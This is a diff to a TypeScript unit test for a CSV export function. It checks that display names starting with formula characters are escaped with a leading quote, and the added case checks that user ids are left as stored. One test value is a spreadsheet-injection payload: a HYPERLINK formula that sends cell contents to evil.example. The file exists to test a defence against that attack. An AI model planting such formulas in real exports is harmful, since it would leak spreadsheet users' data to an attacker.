@@ -96,7 +96,7 @@ describe('toCsv', () => {
     expect(toCsv(report, { delimiter: ';' }).split('\n')[0]).toContain('user_id;display_name;day');
   });
 
-  it("writes a display name that starts like a formula as text, with a ' before it, unless told not to", async () => {
+  it("writes a display name that starts like a formula as text, with a ' before it, unless told not to; ids as they are", async () => {
     const report = await sample();
     const named = (displayName: string) => ({
       ...report,
@@ -107,6 +107,15 @@ describe('toCsv', () => {
     expect(jane(toCsv(named(formula)))).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")",`);
     for (const start of ['+', '-', '@']) expect(jane(toCsv(named(`${start}1`)))).toContain(`,'${start}1,`);
     expect(jane(toCsv(named('Jane =1')))).toContain(',Jane =1,');
+    // Ids are not names: they stay as the store has them, even when they start like a formula.
+    const dashed = (id: string) => (id === 'jane' ? '-jane' : id);
+    const ids = {
+      ...named(formula),
+      rows: report.rows.map((r) => ({ ...r, userId: dashed(r.userId) })),
+      totals: report.totals.map((r) => ({ ...r, userId: dashed(r.userId) })),
+      users: report.users.map((u) => ({ ...u, id: dashed(u.id), displayName: '-Jane' })),
+    };
+    expect(lines(toCsv(ids)).find((l) => l.startsWith('-jane,'))).toContain(`-jane,'-Jane,`);
     expect(jane(toCsv(named(formula), { escapeFormulas: false }))).toContain(',"=HYPERLINK(');
     expect(await collect(toCsvStream(named(formula)))).toBe(toCsv(named(formula)));
   });
